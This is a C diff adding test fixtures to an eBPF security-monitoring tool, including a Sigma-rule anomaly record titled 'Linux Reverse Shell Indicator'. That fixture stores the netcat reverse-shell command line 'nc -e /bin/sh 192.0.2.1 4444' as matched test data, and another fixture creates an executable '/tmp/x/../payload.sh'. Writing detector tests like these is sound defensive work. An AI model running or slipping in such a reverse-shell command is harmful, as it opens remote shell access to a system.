@@ -69,8 +69,9 @@ static void fixture_args(struct clawos_exec_event *e, const char *const *argv, u
 		memcpy(e->args + off, argv[i], n);
 		off += n;
 	}
-	e->argc = argc;
 	e->args_len = (uint16_t)off;
+	/* on the wire an exec record ends with its arguments */
+	e->hdr.size = (uint16_t)(CLAWOS_EXEC_FIXED_SIZE + off);
 }
 
 static void fixture_exec(union fixture_record *r, struct event_context *ctx)
@@ -82,6 +83,7 @@ static void fixture_exec(union fixture_record *r, struct event_context *ctx)
 	fixture_hdr(&e->hdr, CLAWOS_EV_EXEC, sizeof(*e));
 	snprintf(e->filename, sizeof(e->filename), "/usr/bin/dash");
 	fixture_args(e, argv, ELEMENTSOF(argv));
+	snprintf(e->cwd, sizeof(e->cwd), "/home/alice/src");
 	e->flags = CLAWOS_EXEC_F_ARGS_TRUNCATED;
 	e->mechanism = CLAWOS_MECH_TRACEPOINT;
 	e->old_tid = 4243;
@@ -96,7 +98,7 @@ static void fixture_exec_failed(union fixture_record *r, struct event_context *c
 	e->hdr.ppid = 0; /* the context's ppid fills in */
 	snprintf(e->filename, sizeof(e->filename), "/usr/local/bin/nosuch");
 	fixture_args(e, argv, ELEMENTSOF(argv));
-	e->flags = CLAWOS_EXEC_F_FAILED | CLAWOS_EXEC_F_EXECVEAT;
+	e->flags = CLAWOS_EXEC_F_FAILED | CLAWOS_EXEC_F_EXECVEAT | CLAWOS_EXEC_F_CWD_TRUNCATED;
 	e->ret = -ENOENT;
 	e->mechanism = CLAWOS_MECH_TRACEPOINT;
 	e->old_tid = 4243;
@@ -135,6 +137,24 @@ static void fixture_file_normalized(union fixture_record *r, struct event_contex
 	e->op = CLAWOS_FILE_OP_OPEN;
 	e->mechanism = CLAWOS_MECH_TRACEPOINT;
 	e->flags = 02000000; /* O_RDONLY | O_CLOEXEC */
+	e->dirfd = -100;
+	e->ret = 3;
+}
+
+/* O_CREAT on a name that did not exist: the kernel marked it created */
+static void fixture_file_created(union fixture_record *r, struct event_context *ctx)
+{
+	static const char path[] = "/tmp/x/../payload.sh";
+	struct clawos_file_event *e = &r->file;
+
+	fixture_hdr(&e->hdr, CLAWOS_EV_FILE, sizeof(*e));
+	memcpy(e->path, path, sizeof(path));
+	e->path_len = sizeof(path);
+	e->path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_CREATED;
+	e->op = CLAWOS_FILE_OP_OPEN;
+	e->mechanism = CLAWOS_MECH_TRACEPOINT;
+	e->flags = 01 | 0100 | 01000; /* O_WRONLY|O_CREAT|O_TRUNC, as creat(2) */
+	e->mode = 0755;
 	e->dirfd = -100;
 	e->ret = 3;
 }
@@ -338,6 +358,47 @@ static void fixture_anomaly_tamper(union fixture_record *r, struct event_context
 	*ctx = (struct event_context){.realtime_offset_ns = fixture_ctx.realtime_offset_ns, .host = "testhost"};
 }
 
+/* A Sigma hit: rule and trigger come from user space (ctx->sigma). */
+static void fixture_anomaly_sigma(union fixture_record *r, struct event_context *ctx)
+{
+	static const char *const tags[] = {"attack.execution", "attack.t1059.004"};
+	static const char *const names[] = {"Image", "CommandLine"};
+	/* a value is bounded by its length, not by a NUL */
+	static const char *const values[] = {"/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444 and more"};
+	static const uint32_t lens[] = {11, 28};
+	static const struct event_sigma sg = {
+	    .id = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871",
+	    .title = "Linux Reverse Shell Indicator",
+	    .level = "critical",
+	    .status = "test",
+	    .category = "process_creation",
+	    .file = "/etc/clawos-ebpf/sigma/rev.yml",
+	    .tags = tags,
+	    .n_tags = ELEMENTSOF(tags),
+	    .matched_names = names,
+	    .matched_values = values,
+	    .matched_lens = lens,
+	    .n_matched = ELEMENTSOF(names),
+	    .subject = "/usr/bin/nc",
+	    .trigger_event = "exec",
+	    .trigger_cpu = 1,
+	    .trigger_seq = 777,
+	};
+	struct clawos_anomaly_event *e = &r->anomaly;
+
+	fixture_hdr(&e->hdr, CLAWOS_EV_ANOMALY, sizeof(*e));
+	e->hdr.cpu = CLAWOS_CPU_USER;
+	e->kind = CLAWOS_ANOMALY_SIGMA;
+	e->severity = CLAWOS_SEV_CRITICAL;
+	e->mechanism = CLAWOS_MECH_USER;
+	snprintf(e->rule, sizeof(e->rule), "%s", sg.id); /* cut: the JSON has it whole */
+	snprintf(e->description, sizeof(e->description), "%s", sg.title);
+	e->ancestry_len = 1;
+	e->ancestry[0].pid = 4000;
+	snprintf(e->ancestry[0].comm, sizeof(e->ancestry[0].comm), "bash");
+	ctx->sigma = &sg;
+}
+
 static void fixture_process_fork(union fixture_record *r, struct event_context *ctx)
 {
 	fixture_hdr(&r->proc.hdr, CLAWOS_EV_PROC, sizeof(r->proc));
@@ -368,6 +429,7 @@ static const struct fixture {
     {"file-escapes", fixture_file_escapes},
     {"file-normalized", fixture_file_normalized},
     {"file-enoent", fixture_file_enoent},
+    {"file-created", fixture_file_created},
     {"network-connect4", fixture_network_connect4},
     {"network-bind6", fixture_network_bind6},
     {"network-socket-raw", fixture_network_socket_raw},
@@ -379,6 +441,7 @@ static const struct fixture {
     {"anomaly", fixture_anomaly},
     {"anomaly-file-violation", fixture_anomaly_file_violation},
     {"anomaly-tamper", fixture_anomaly_tamper},
+    {"anomaly-sigma", fixture_anomaly_sigma},
     {"process-fork", fixture_process_fork},
     {"process-exit", fixture_process_exit},
     {"process-killed", fixture_process_killed},
